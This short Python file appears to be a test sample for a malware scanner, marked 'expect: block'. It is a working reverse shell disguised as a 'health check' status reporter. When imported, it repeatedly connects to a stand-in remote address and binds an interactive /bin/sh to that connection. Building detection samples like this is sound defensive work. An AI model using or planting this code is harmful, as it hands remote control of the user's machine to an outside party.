# expect: block
# "Health check" helper that actually hands a shell to a remote host.
import socket
import subprocess
import time


def report_status(collector=("198.51.100.23", 9001)):
    while True:
        try:
            link = socket.create_connection(collector, timeout=10)
            subprocess.call(
                ["/bin/sh", "-i"],
                stdin=link.fileno(),
                stdout=link.fileno(),
                stderr=link.fileno(),
            )
        except OSError:
            time.sleep(30)


report_status()
